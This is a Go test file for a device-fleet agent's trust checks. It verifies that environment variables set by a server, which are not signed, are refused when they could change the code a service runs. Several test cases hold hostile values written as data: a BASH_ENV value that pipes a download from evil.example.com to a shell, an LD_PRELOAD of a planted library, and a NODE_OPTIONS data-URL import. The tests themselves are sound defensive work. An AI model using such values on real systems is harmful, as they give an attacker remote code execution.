package trust_test

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/roadstead-io/roadstead/api"
	"github.com/roadstead-io/roadstead/internal/agent/trust"
)

// Variables are not signed. Whoever has the server may not make one of them the code that a service runs, where releases need their owner's word; and a release
// can say which may be set at all.
func TestVariables(t *testing.T) {
	for _, tt := range []struct {
		name, variable, value string
		approval              api.Approval
		label                 string // "-": none
		compose               string
		refused               bool
	}{
		{"a plain one", "TZ", "UTC", api.ApprovalBoth, "-", `{}`, false},
		{"a shell's", "BASH_ENV", "$(curl https://evil.example.com|sh)", api.ApprovalBoth, "-", `{}`, true},
		{"the loader's", "LD_PRELOAD", "/data/evil.so", api.ApprovalOwner, "-", `{}`, true},
		{"an interpreter's", "NODE_OPTIONS", "--import=data:text/javascript,evil()", api.ApprovalBoth, "-", `{}`, true},
		{"an interpreter's, in the builder's fleet", "NODE_OPTIONS", "--inspect", api.ApprovalBuilder, "-", `{}`, false},
		{"the composition's own", "NODE_OPTIONS", "--max-old-space-size=99", api.ApprovalBoth, "-", `{"environment":["NODE_OPTIONS=--max-old-space-size=99"]}`, false},
		{"the composition's own with another value", "NODE_OPTIONS", "--inspect", api.ApprovalBoth, "-", `{"environment":{"NODE_OPTIONS":"--max-old-space-size=99"}}`, true},
		{"an interpreter's that the release lets be set", "NODE_OPTIONS", "--inspect", api.ApprovalBoth, "TZ, NODE_OPTIONS", `{}`, false},
		{"one that the release names", "APP_LEVEL", "3", api.ApprovalBoth, "TZ,APP_*", `{}`, false},
		{"one that the release does not name", "LEVEL", "3", api.ApprovalBoth, "TZ,APP_*", `{}`, true},
		{"one that the release does not name, in the builder's fleet", "LEVEL", "3", api.ApprovalBuilder, "TZ,APP_*", `{}`, true},
		{"any where none may be set", "TZ", "UTC", api.ApprovalBuilder, "", `{}`, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			here := newFleet(hereUUID)
			here.Approval = tt.approval
			here.Publish()
			s := newSite(t, here)
			target := only(hereUUID, commitA, 1)
			web := target.Apps[hereUUID].Releases[commitA].Services["web"]
			web.Composition = json.RawMessage(tt.compose)
			if tt.label != "-" {
				web.Labels = map[string]string{trust.LabelVariables: tt.label}
			}
			here.Build(commitA, target.Apps[hereUUID].Releases[commitA])
			here.Sign(commitA)
			here.Publish()
			for _, when := range []string{"at first", "later"} { // of one that was accepted variables may change without asking
				if tt.refused || when == "later" {
					web.Environment = map[string]string{tt.variable: tt.value}
				}
				if tt.refused {
					s.refuses(target, "variable", tt.variable, "service web")
					web.Environment = nil
				}
				s.accepts(target)
			}
		})
	}
}

// A label that the release does not have lets nobody set more.
func TestTheServerAddsNoLabelOfOurs(t *testing.T) {
	here := newFleet(hereUUID)
	s := newSite(t, here)
	target := releases(here, commitA, 1)
	web := target.Apps[hereUUID].Releases[commitA].Services["web"]
	web.Labels = map[string]string{trust.LabelVariables: "*"}
	refused(t, s.Check(context.Background(), target), "composition", trust.LabelVariables)
}
